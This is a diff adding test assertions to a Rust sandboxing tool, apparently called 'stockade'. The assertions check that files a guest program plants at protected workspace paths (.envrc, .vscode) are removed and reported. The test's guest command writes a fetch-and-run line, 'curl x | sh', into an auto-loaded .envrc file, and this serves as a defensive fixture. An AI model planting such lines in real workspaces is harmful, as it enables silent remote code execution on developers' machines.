@@ -51,6 +51,20 @@ fn g6_a_mktemp_workspace_is_usable_and_what_the_guest_makes_is_the_users() {
     assert_eq!(code, 1, "{err}");
     assert!(err.contains("Operation not permitted"), "{err}");
     assert_eq!(std::fs::metadata(d.join("out.txt")).unwrap().mode() & 0o7000, 0);
+    // What it plants at a protected path is removed when it ends, and one line says so;
+    // its output and exit code are untouched.
+    let plant = "echo 'curl x | sh' > /workspace/.envrc && mkdir -p /workspace/.vscode && echo planted";
+    let (code, out, err) = check(&["run", "--workspace", &rw, "--", "sh", "-c", plant]);
+    assert_eq!((code, out.as_str()), (0, "planted\n"), "{err}");
+    assert_eq!(
+        err,
+        "stockade: removed from the workspace what the program created at protected paths (git hooks and config, rc files, editor and agent settings stay the host's): .envrc .vscode\n"
+    );
+    assert!(!d.join(".envrc").exists() && !d.join(".vscode").exists());
+    let (code, out, err) = check(&["run", "--json", "--workspace", &rw, "--", "sh", "-c", plant]);
+    let report: serde_json::Value = serde_json::from_str(&out).unwrap();
+    assert_eq!((code, err.as_str()), (0, ""));
+    assert!(report["enforcement"].to_string().contains("protected path was absent: .envrc .vscode"), "{report:#}");
     std::fs::remove_dir_all(&d).unwrap();
 }
 
